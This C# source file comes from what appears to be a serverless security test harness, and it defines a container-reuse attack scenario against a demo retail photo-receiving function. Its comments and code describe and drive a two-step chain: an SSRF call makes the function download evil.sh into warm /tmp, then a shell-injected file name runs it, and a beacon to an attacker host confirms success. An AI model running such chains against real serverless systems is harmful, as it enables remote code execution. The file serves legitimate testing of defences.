namespace FaaSMon.Workload;

/// <summary>
/// Container reuse: invocation A makes product-photos-receive download evil.sh into its warm /tmp (SSRF); a later,
/// separate invocation B names a file whose name is a shell injection that makes evil.sh executable and runs it. Verified
/// by the implant's beacon carrying this run's nonce.
/// </summary>
internal sealed class ContainerReuseAttack : IAttackScenario
{
    /// <summary>
    /// With several replicas the gateway may send B to a container other than A's, where nothing is staged: the pair is
    /// tried again, as a real attacker would, until one lands on the same warm container.
    /// </summary>
    private const int Attempts = 3;

    private static readonly TimeSpan BeaconWait = TimeSpan.FromSeconds(10);

    public string Family => AttackFamily.ContainerReuse;

    public int GatedSteps => 2;

    public async Task<AttackOutcome> RunAsync(AttackRun run, CancellationToken ct)
    {
        var attacker = run.Environment.Attacker;
        var attempts = new List<string>();
        for (var attempt = 1; attempt <= Attempts; attempt++)
        {
            if (attempt == 1)
            {
                await run.ReachStepAsync(0, ct);
            }

            var stage = await run.SendMaliciousAsync(
                Receive(AttackPayloads.ContainerReuseStageUrl(attacker.BaseUri, run.Nonce)), AttackStep.Stage, ct);

            if (attempt == 1)
            {
                await run.ReachStepAsync(1, ct);
            }

            var trigger = await run.SendMaliciousAsync(
                Receive(AttackPayloads.ContainerReuseTriggerUrl(attacker.BaseUri, run.Nonce)), AttackStep.Trigger, ct);
            var beacon = await attacker.WaitForAsync(CallbackKind.Beacon, run.Nonce, BeaconWait, ct);
            var downloaded = attacker.HasReceived(CallbackKind.StageDownload, run.Nonce);
            if (beacon is not null)
            {
                return run.Outcome(
                    true,
                    $"beacon with nonce {run.Nonce} from {beacon.Remote} (container hostname '{beacon.Host}') after the trigger; " +
                    $"evil.sh {(downloaded ? "downloaded by the stage call" : "already in the warm /tmp from an earlier run")}; " +
                    $"stage answered {stage}, trigger answered {trigger}, attempt {attempt}");
            }

            attempts.Add($"attempt {attempt}: stage answered {stage} (evil.sh downloaded: {downloaded}), trigger answered {trigger}, no beacon within {BeaconWait.TotalSeconds:F0}s");
        }

        return run.Outcome(false, string.Join("; ", attempts));
    }

    private static GatewayRequest Receive(Uri url) => GatewayRequest.Post(HelloRetail.PhotosReceive, "/", new
    {
        photographer = HelloRetail.SeedPhotographers[0],
        product = AttackPayloads.VictimProduct,
        url = url.AbsoluteUri,
    });
}
